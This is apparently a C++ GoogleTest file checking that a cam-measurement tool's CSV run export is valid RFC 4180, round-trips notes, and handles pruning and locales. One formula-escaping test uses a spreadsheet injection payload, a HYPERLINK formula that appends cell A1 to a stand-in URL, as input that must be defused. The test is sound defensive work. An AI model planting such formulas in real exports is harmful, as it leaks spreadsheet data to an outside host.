// The CSV of `runs export` read back with an RFC 4180 reader: the header first, one record per
// cam degree with as many fields as the header, text quoted so it survives, the same columns
// once raw samples are pruned, the '#' lines only when asked, and numbers with a decimal point
// in a German locale.
#include <gtest/gtest.h>

#include <clocale>
#include <cmath>
#include <locale>
#include <optional>
#include <string>
#include <vector>

#include "report/judged_error.h"
#include "report/run_json.h"
#include "storage/run_store.h"
#include "tests/report/stored_run_test.h"
#include "tests/support/csv_reader.h"
#include "tests/support/sample_runs.h"

namespace gaugeloop {
namespace {

using testing::CsvRecord;
using testing::read_csv;

class RunCsvTest : public testing::StoredRunTest {
 protected:
  // The records of the export, checked to be RFC 4180 and rectangular.
  std::vector<CsvRecord> records_of(const std::string& csv) {
    std::optional<std::vector<CsvRecord>> records = read_csv(csv);
    EXPECT_TRUE(records.has_value()) << "not RFC 4180 CSV:\n" << csv.substr(0, 800);
    if (!records) return {};
    EXPECT_EQ(records->size(), 361u) << "a header and one record per cam degree";
    for (std::size_t i = 1; i < records->size(); ++i) {
      EXPECT_EQ((*records)[i].size(), (*records)[0].size()) << "record " << i << " has another field count";
    }
    return *records;
  }
};

std::size_t column(const CsvRecord& header, const std::string& name) {
  for (std::size_t i = 0; i < header.size(); ++i) {
    if (header[i] == name) return i;
  }
  ADD_FAILURE() << "no column " << name;
  return 0;
}

TEST(CsvReader, KnowsTheRfc) {
  auto r = read_csv("a,\"b,\"\"c\"\"\r\nd\",\r\n");
  ASSERT_TRUE(r.has_value());
  EXPECT_EQ(*r, (std::vector<CsvRecord>{{"a", "b,\"c\"\r\nd", ""}}));
  EXPECT_FALSE(read_csv("a,b\n").has_value()) << "a bare LF ends no record";
  EXPECT_FALSE(read_csv("a,b").has_value()) << "the last record ends in CRLF";
  EXPECT_FALSE(read_csv("a\"b\r\n").has_value()) << "a quote in an unquoted field";
  EXPECT_FALSE(read_csv("\"ab\r\n").has_value()) << "an unclosed quote";
}

TEST_F(RunCsvTest, TheHeaderIsTheFirstLineAndANoteRoundTrips) {
  RunRecord record = testing::sample_run("intake_flat", 1, "grinder-1", "2026-11-22T02:34:44Z", 5.0);
  record.note = "re-ground, \"nose\" chipped\r\nsee sheet 4";
  record.serial = "CS-00421, shaft 2";
  record.operator_name = "Anna";
  const std::int64_t id = insert(record);
  const std::string csv = run_csv(load(id));
  ASSERT_EQ(csv.rfind("cam_deg,", 0), 0u) << csv.substr(0, 300);
  const std::vector<CsvRecord> rows = records_of(csv);
  ASSERT_EQ(rows.size(), 361u);
  EXPECT_EQ(rows[0], (CsvRecord{"cam_deg", "design_lift_mm", "rev1_lift_mm", "rev2_lift_mm", "rev3_lift_mm",
                                "mean_lift_mm", "spread_um", "error_um", "judged_error_um", "correction_um", "run_id",
                                "machine", "part", "lobe", "started_utc", "serial", "operator", "note"}));
  for (std::size_t d = 0; d < 360; ++d) {
    const CsvRecord& row = rows[d + 1];
    ASSERT_EQ(row[0], std::to_string(d));
    EXPECT_EQ(row[column(rows[0], "note")], record.note) << "cam degree " << d;
    EXPECT_EQ(row[column(rows[0], "serial")], record.serial);
    EXPECT_EQ(row[column(rows[0], "operator")], "Anna");
    EXPECT_EQ(row[column(rows[0], "run_id")], std::to_string(id));
    EXPECT_EQ(row[column(rows[0], "part")], "intake_flat");
  }
  // c0 = 10, sense +1, probe 0: cam degree 5 was read at machine degree 15.
  EXPECT_NEAR(std::stod(rows[6][2]), testing::raw_mm(0, 15), 1e-7);
  EXPECT_NEAR(std::stod(rows[6][column(rows[0], "error_um")]), 5.0 * std::sin(5 * 0.0174533), 1e-4);
  // The judged curve beside it, degree for degree the one the run's JSON names.
  const JudgedError judged = judged_error(load(id));
  for (std::size_t d = 0; d < 360; ++d) {
    EXPECT_NEAR(std::stod(rows[d + 1][column(rows[0], "judged_error_um")]), judged.error_um[d], 0.5e-4) << d;
  }
  EXPECT_EQ(csv.find('#'), std::string::npos) << "no comment lines unless asked";
}

// A note, serial or operator a spreadsheet would run as a formula is written as text: an
// apostrophe before it, in quotes. A text that only contains such a character stays as it is.
TEST_F(RunCsvTest, TextThatLooksLikeAFormulaIsWrittenAsText) {
  RunRecord record = testing::sample_run("intake_flat", 1, "grinder-1", "2026-11-22T02:34:44Z", 5.0);
  record.note = "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")";
  record.serial = "+49 123";
  record.operator_name = "@anna";
  const std::int64_t id = insert(record);
  const std::vector<CsvRecord> rows = records_of(run_csv(load(id)));
  ASSERT_EQ(rows.size(), 361u);
  EXPECT_EQ(rows[1][column(rows[0], "note")], "'" + record.note);
  EXPECT_EQ(rows[1][column(rows[0], "serial")], "'+49 123");
  EXPECT_EQ(rows[1][column(rows[0], "operator")], "'@anna");
  for (const std::string& text : {std::string("-3 um low"), std::string("\tindented")}) {
    record.note = text;
    record.serial = "CS-1=2";
    const std::vector<CsvRecord> again = records_of(run_csv(load(insert(record))));
    ASSERT_EQ(again.size(), 361u);
    EXPECT_EQ(again[1][column(again[0], "note")], "'" + text);
    EXPECT_EQ(again[1][column(again[0], "serial")], "CS-1=2") << "an = inside is no formula";
  }
}

TEST_F(RunCsvTest, APrunedRunKeepsItsColumnsWithEmptyFields) {
  const std::int64_t id = insert(testing::sample_run("intake_flat", 1, "grinder-1", "2026-11-22T02:34:44Z", 5.0));
  const std::vector<CsvRecord> before = records_of(run_csv(load(id)));
  ASSERT_EQ(before.size(), 361u);
  Result<std::int64_t> pruned = store_->prune_raw_samples("2026-11-23T00:00:00Z", "2026-11-24T00:00:00Z");
  ASSERT_TRUE(pruned.ok()) << pruned.error().message;
  ASSERT_EQ(*pruned, 1);
  const StoredRun run = load(id);
  ASSERT_TRUE(run.revolutions.empty());
  const std::vector<CsvRecord> after = records_of(run_csv(run));
  ASSERT_EQ(after.size(), 361u);
  EXPECT_EQ(after[0], before[0]) << "the same header whether pruned or not";
  const std::size_t rev1 = column(after[0], "rev1_lift_mm");
  const std::size_t mean = column(after[0], "mean_lift_mm");
  for (std::size_t i = 1; i < after.size(); ++i) {
    for (std::size_t c = rev1; c < mean; ++c) EXPECT_EQ(after[i][c], "") << "record " << i << " field " << c;
    EXPECT_EQ(after[i][mean], before[i][mean]);
  }
  EXPECT_NE(run_csv(run, true).find("pruned on 2026-11-24T00:00:00Z: the revN columns are empty"), std::string::npos);
}

TEST_F(RunCsvTest, CommentsComeBeforeTheHeaderOnlyWhenAsked) {
  const std::int64_t id = insert(testing::sample_run("intake_flat", 1, "grinder-1", "2026-11-22T02:34:44Z", 5.0));
  const std::string csv = run_csv(load(id), true);
  const std::string first = "# gaugeloop run " + std::to_string(id) + ": intake_flat lobe 1 on grinder-1";
  ASSERT_EQ(csv.rfind(first, 0), 0u) << csv.substr(0, 300);
  const std::size_t header = csv.find("\r\ncam_deg,");
  ASSERT_NE(header, std::string::npos);
  std::size_t lines = 0;
  for (std::size_t at = 0; at <= header; at = csv.find("\r\n", at) + 2) {
    EXPECT_EQ(csv[at], '#') << "a line before the header that is no comment";
    ++lines;
  }
  EXPECT_EQ(lines, 5u);
  EXPECT_NE(csv.find("mapped to the CAM frame"), std::string::npos);
  EXPECT_NE(csv.find("# judged_error_um: the "), std::string::npos);
  // Without the comment lines, the rest is the plain export.
  EXPECT_EQ(csv.substr(header + 2), run_csv(load(id)));
}

TEST_F(RunCsvTest, AGermanLocaleStillWritesDecimalPointsAndNoDigitGroups) {
  StoredRun run = load(insert(testing::sample_run("intake_flat", 1, "grinder-1", "2026-11-22T02:34:44Z", 5.0)));
  run.summary.id = 12345;
  const std::string plain = run_csv(run);
  const char* previous = std::setlocale(LC_NUMERIC, nullptr);
  const std::string saved = previous != nullptr ? previous : "C";
  if (std::setlocale(LC_NUMERIC, "de_DE.UTF-8") == nullptr) {
    FAIL() << "de_DE.UTF-8 locale not installed; scripts/install-deps.sh generates it";
  }
  const std::locale saved_global = std::locale::global(std::locale("de_DE.UTF-8"));
  const std::string german = run_csv(run);
  std::locale::global(saved_global);
  std::setlocale(LC_NUMERIC, saved.c_str());
  EXPECT_EQ(german, plain);
  const std::vector<CsvRecord> rows = records_of(german);
  ASSERT_EQ(rows.size(), 361u);
  EXPECT_EQ(rows[1][1], "0.5000000");
  EXPECT_EQ(rows[1][column(rows[0], "run_id")], "12345");
}

}  // namespace
}  // namespace gaugeloop
